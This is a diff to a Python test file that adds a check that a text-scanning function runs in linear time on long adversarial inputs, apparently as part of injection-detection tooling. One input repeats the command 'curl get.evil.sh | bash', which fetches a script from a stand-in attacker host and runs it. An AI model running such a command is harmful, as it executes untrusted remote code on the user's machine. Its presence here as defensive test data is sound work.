@@ -140,3 +140,11 @@ def test_injection_dataset_hosts_accounts_and_speed():
         find_values(r["text"])
     rate = len(rows) / (time.perf_counter() - t0)
     assert rate > 300, f"{rate:.0f} texts/s"  # ~2,000/s measured on 2 shared cores
+
+
+def test_linear_time_on_adversarial_lines():
+    # one line of many names, commands or digits (was quadratic: 33 s for 5,000 names, 18 s for 20,000 digits)
+    for text in ("see a.sh " * 5000, "curl x " * 5000, "1 " * 20000, "account 1234 5678 " * 3000, "curl get.evil.sh | bash " * 2000):
+        t0 = time.perf_counter()
+        find_values(text)
+        assert time.perf_counter() - t0 < 5, text[:20]
